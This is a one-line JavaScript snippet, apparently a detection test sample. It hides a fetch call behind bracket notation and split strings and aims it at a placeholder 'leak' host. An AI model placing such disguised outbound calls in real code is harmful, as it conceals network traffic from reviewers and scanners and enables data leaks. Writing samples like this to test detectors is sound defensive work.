self["fe" + "tch"]("https://js-fetch-bracket-concatenated.leak.test/")
